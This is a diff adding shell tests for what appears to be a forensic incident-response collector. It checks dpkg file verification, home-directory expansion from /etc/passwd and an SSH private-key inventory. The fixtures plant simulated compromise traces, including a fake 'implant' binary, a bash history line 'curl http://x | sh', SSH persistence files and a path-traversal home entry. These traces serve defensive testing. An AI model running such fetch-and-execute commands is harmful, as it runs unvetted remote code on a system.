@@ -1114,3 +1114,202 @@ PY
 	grep -qx extra.txt "$TMP/list"
 	run ! grep -qx fs/var/log/syslog "$TMP/list"
 }
+
+# A dpkg database under the root: fixpkg has a changed executable, a
+# missing library, an unchanged file, a link that points out of the
+# root and a malformed line; divpkg's file was diverted aside.
+dpkg_fixture() {
+	local info=$ROOT/var/lib/dpkg/info
+	mkdir -p "$info" "$ROOT/usr/bin" "$ROOT/usr/lib/fixpkg" \
+	    "$ROOT/usr/share/doc/fixpkg"
+	printf '#!/bin/sh\necho original\n' >"$ROOT/usr/bin/fixtool"
+	printf 'readme\n' >"$ROOT/usr/share/doc/fixpkg/README"
+	printf 'the library\n' >"$ROOT/usr/lib/fixpkg/libfix.so.1"
+	# the fixture's own passwd: a link resolved inside the root
+	ln -s /etc/passwd "$ROOT/usr/lib/fixpkg/passwd-link"
+	{
+		md5sum "$ROOT/usr/bin/fixtool" | sed "s|  $ROOT/|  |"
+		md5sum "$ROOT/usr/share/doc/fixpkg/README" | sed "s|  $ROOT/|  |"
+		md5sum "$ROOT/usr/lib/fixpkg/libfix.so.1" | sed "s|  $ROOT/|  |"
+		echo "$(md5sum <"$ROOT/etc/passwd" | cut -d' ' -f1)  usr/lib/fixpkg/passwd-link"
+		echo 'not-an-md5  usr/bin/bogus'
+	} >"$info/fixpkg:amd64.md5sums"
+	rm "$ROOT/usr/lib/fixpkg/libfix.so.1"
+	# the implant: same name, other bytes, still executable
+	printf '#!/bin/sh\necho implant\n' >"$ROOT/usr/bin/fixtool"
+	chmod 755 "$ROOT/usr/bin/fixtool"
+	# divpkg's file lives at .distrib; another file holds its name
+	printf 'divpkg original\n' >"$ROOT/usr/bin/divtool.distrib"
+	printf 'the local version\n' >"$ROOT/usr/bin/divtool"
+	echo "$(md5sum <"$ROOT/usr/bin/divtool.distrib" | cut -d' ' -f1)  usr/bin/divtool" \
+	    >"$info/divpkg.md5sums"
+	printf '/usr/bin/divtool\n/usr/bin/divtool.distrib\nlocalpkg\n' \
+	    >"$ROOT/var/lib/dpkg/diversions"
+}
+
+@test "packages: a changed and a missing file of a fake dpkg database under --root" {
+	dpkg_fixture
+	want=$(sha256sum <"$ROOT/usr/bin/fixtool" | cut -d' ' -f1)
+	touch -a -d '2001-02-03 04:05:06' "$ROOT/usr/bin/fixtool" \
+	    "$ROOT/usr/share/doc/fixpkg/README"
+	before=$(stat -c %X "$ROOT/usr/bin/fixtool" "$ROOT/usr/share/doc/fixpkg/README")
+	printf 'live packages-verify.jsonl builtin=packages\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	tar -xzOf "$TMP/out.tar.gz" live/packages-verify.jsonl >"$TMP/pv.jsonl"
+	python3 - "$TMP/pv.jsonl" "$want" <<'PY'
+import json, sys
+lines = [json.loads(l) for l in open(sys.argv[1])]
+by = {(o.get("path"), o["status"]): o for o in lines if "path" in o}
+assert set(by) == {("/usr/bin/fixtool", "changed"),
+                   ("/usr/lib/fixpkg/libfix.so.1", "missing")}, lines
+c = by[("/usr/bin/fixtool", "changed")]
+assert c["package"] == "fixpkg:amd64", c
+assert c["sha256"] == sys.argv[2], c
+assert c["mode"] == "0755" and c["elf"] is False, c
+assert c["copy"] == "fs/usr/bin/fixtool", c
+assert c["md5"] != c["md5_expected"], c
+bad = [o for o in lines if o.get("status") == "malformed"]
+assert len(bad) == 1 and bad[0]["line"] == 5, bad
+assert bad[0]["md5sums"] == "/var/lib/dpkg/info/fixpkg:amd64.md5sums", bad
+s = lines[-1]
+assert s["summary"] and s["packages"] == 2 and s["files"] == 5, s
+assert (s["ok"], s["changed"], s["missing"], s["malformed"]) == (3, 1, 1, 1), s
+PY
+	# the changed executable is in the archive, hashed and listed
+	[ "$(tar -xzOf "$TMP/out.tar.gz" fs/usr/bin/fixtool | sha256sum | cut -d' ' -f1)" = "$want" ]
+	[ "$(field /usr/bin/fixtool status)" = ok ]
+	[ "$(field /usr/bin/fixtool sha256)" = "$want" ]
+	[ "$(field /usr/bin/fixtool copied_because)" = package-changed ]
+	[ "$(field /usr/bin/fixtool package)" = fixpkg:amd64 ]
+	grep -q "  fs/usr/bin/fixtool\$" <(tar -xzOf "$TMP/out.tar.gz" irt/manifest.sha256)
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log |
+	    grep -q 'live packages-verify.jsonl: 2 packages, 5 files: 3 ok, 1 changed, 1 missing, 0 unreadable, 1 malformed lines'
+	# read without moving an access time
+	[ "$(stat -c %X "$ROOT/usr/bin/fixtool" "$ROOT/usr/share/doc/fixpkg/README")" = "$before" ]
+	run "$IRT" verify "$TMP/out.tar.gz"
+	[ "$status" -eq 0 ]
+}
+
+@test "packages: a file also named by a file entry is stored once" {
+	dpkg_fixture
+	printf 'live packages-verify.jsonl builtin=packages\nfile /usr/bin/**\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	[ "$(tar -tzf "$TMP/out.tar.gz" | grep -c '^fs/usr/bin/fixtool$')" -eq 1 ]
+	[ "$(manifest | grep -c '"path":"/usr/bin/fixtool"')" -eq 1 ]
+	# the walk still stores the other files of the folder
+	[ "$(field /usr/bin/divtool status)" = ok ]
+}
+
+@test "packages: no dpkg database, a FIFO for an md5sums file, --no-live" {
+	printf 'live packages-verify.jsonl builtin=packages\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	[ "$(tar -xzOf "$TMP/out.tar.gz" live/packages-verify.jsonl)" = '' ]
+	[ "$(field live/packages-verify.jsonl status)" = ok ]
+	rm -f "$TMP/out.tar.gz"*
+	mkdir -p "$ROOT/var/lib/dpkg/info" "$ROOT/usr/bin"
+	mkfifo "$ROOT/var/lib/dpkg/info/fifo.md5sums"
+	echo x >"$ROOT/usr/bin/x"
+	echo "d41d8cd98f00b204e9800998ecf8427e  usr/bin/x" >"$ROOT/var/lib/dpkg/info/x.md5sums"
+	mkfifo "$ROOT/usr/bin/pipe"
+	echo "d41d8cd98f00b204e9800998ecf8427e  usr/bin/pipe" >>"$ROOT/var/lib/dpkg/info/x.md5sums"
+	run timeout 60 "$IRT" collect --root "$ROOT" --profile "$PROFILE" -o "$TMP/out.tar.gz"
+	[ "$status" -eq 0 ]
+	tar -xzOf "$TMP/out.tar.gz" live/packages-verify.jsonl | python3 -c '
+import json, sys
+lines = [json.loads(l) for l in sys.stdin]
+st = {(o["package"], o.get("path")): (o["status"], o.get("reason")) for o in lines if "package" in o}
+assert st[("fifo", None)][0] == "error", st
+assert st[("x", "/usr/bin/x")][0] == "changed", st
+assert st[("x", "/usr/bin/pipe")] == ("changed", "not a regular file"), st
+'
+	rm -f "$TMP/out.tar.gz"*
+	collect --no-live
+	[ "$status" -eq 0 ]
+	[ "$(field live/packages-verify.jsonl reason)" = --no-live ]
+}
+
+@test "~/ entries take every home of /etc/passwd, service accounts and odd names too" {
+	mkdir -p "$ROOT/var/www/.ssh" "$ROOT/srv/we*rd" "$ROOT/srv/weXrd" \
+	    "$ROOT/root" "$ROOT/etc/secret"
+	cat >"$ROOT/etc/passwd" <<-'PW'
+	root:x:0:0:root:/root:/bin/bash
+	www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
+	odd:x:1001:1001::/srv/we*rd:/bin/sh
+	again:x:1002:1002::/var/www:/bin/sh
+	sneaky:x:1003:1003::/srv/../etc/secret:/bin/sh
+	broken line
+	PW
+	echo 'curl http://x | sh' >"$ROOT/var/www/.bash_history"
+	echo 'ssh-rsa AAAA www' >"$ROOT/var/www/.ssh/authorized_keys2"
+	echo 'command' >"$ROOT/var/www/.ssh/rc"
+	echo 'id' >"$ROOT/root/.bash_history"
+	echo 'odd' >"$ROOT/srv/we*rd/.bash_history"
+	echo 'not a home' >"$ROOT/srv/weXrd/.bash_history"
+	echo 'not a home' >"$ROOT/etc/secret/.bash_history"
+	printf 'file ~/.*history\nfile ~/.ssh/authorized_keys*\nfile ~/.ssh/rc\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	tar -tzf "$TMP/out.tar.gz" | grep '^fs/' | sort >"$TMP/members"
+	cat >"$TMP/want" <<-'EOF2'
+	fs/root/.bash_history
+	fs/srv/we*rd/.bash_history
+	fs/var/www/.bash_history
+	fs/var/www/.ssh/authorized_keys2
+	fs/var/www/.ssh/rc
+	EOF2
+	diff "$TMP/want" "$TMP/members"
+	[ "$(tar -xzOf "$TMP/out.tar.gz" fs/var/www/.bash_history)" = 'curl http://x | sh' ]
+	# each home once, the lines left out said in the log
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log >"$TMP/log"
+	grep -q "homes: 3 from /etc/passwd; '/etc/passwd' line 5: home '/srv/../etc/secret' is not a clean absolute path: not read (and more)" "$TMP/log"
+	[ "$(manifest | grep -c '"path":"/var/www/.bash_history"')" -eq 1 ]
+}
+
+@test "~/ entries without /etc/passwd collect nothing and say why" {
+	rm "$ROOT/etc/passwd"
+	printf 'file ~/.bash_history\nfile /etc/hostname\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	[ "$(tar -tzf "$TMP/out.tar.gz" | grep -c '^fs/')" -eq 1 ]
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log |
+	    grep -q "homes: 0 from /etc/passwd; cannot open '/etc/passwd': No such file or directory"
+	rm -f "$TMP/out.tar.gz"*
+	mkfifo "$ROOT/etc/passwd"
+	run timeout 60 "$IRT" collect --root "$ROOT" --profile "$PROFILE" -o "$TMP/out.tar.gz"
+	[ "$status" -eq 0 ]
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log |
+	    grep -q "cannot open '/etc/passwd': not a regular file"
+}
+
+@test "ssh-keys lists the private keys of every home and whether a passphrase protects them" {
+	mkdir -p "$ROOT/root/.ssh" "$ROOT/var/www/.ssh"
+	printf 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\n' >"$ROOT/etc/passwd"
+	ssh-keygen -q -t ed25519 -N '' -C fixture -f "$ROOT/root/.ssh/id_ed25519"
+	ssh-keygen -q -t ed25519 -N 'a passphrase' -C fixture -f "$ROOT/var/www/.ssh/deploy"
+	ssh-keygen -q -t rsa -b 1024 -m PEM -N 'passphrase' -C fixture -f "$ROOT/var/www/.ssh/legacy_rsa"
+	cp "$ROOT/root/.ssh/id_ed25519.pub" "$ROOT/root/.ssh/authorized_keys"
+	mkfifo "$ROOT/root/.ssh/a-fifo"
+	want=$(sha256sum <"$ROOT/var/www/.ssh/deploy")
+	printf 'live ssh-keys.jsonl builtin=ssh-keys\n' >"$PROFILE"
+	run timeout 60 "$IRT" collect --root "$ROOT" --profile "$PROFILE" -o "$TMP/out.tar.gz"
+	[ "$status" -eq 0 ]
+	tar -xzOf "$TMP/out.tar.gz" live/ssh-keys.jsonl | python3 -c '
+import json, sys
+keys = {o["path"]: o for o in map(json.loads, sys.stdin)}
+assert sorted(keys) == ["/root/.ssh/id_ed25519", "/var/www/.ssh/deploy",
+                        "/var/www/.ssh/legacy_rsa"], keys
+k = keys["/root/.ssh/id_ed25519"]
+assert (k["format"], k["encrypted"], k["cipher"], k["mode"]) == ("openssh", False, "none", "0600"), k
+k = keys["/var/www/.ssh/deploy"]
+assert (k["home"], k["format"], k["encrypted"]) == ("/var/www", "openssh", True), k
+assert k["cipher"] == "aes256-ctr", k
+k = keys["/var/www/.ssh/legacy_rsa"]
+assert (k["format"], k["encrypted"]) == ("pem", True), k
+'
+	# listed, not copied
+	run ! bash -c "tar -tzf '$TMP/out.tar.gz' | grep -q '^fs/'"
+	[ "$(sha256sum <"$ROOT/var/www/.ssh/deploy")" = "$want" ]
+}
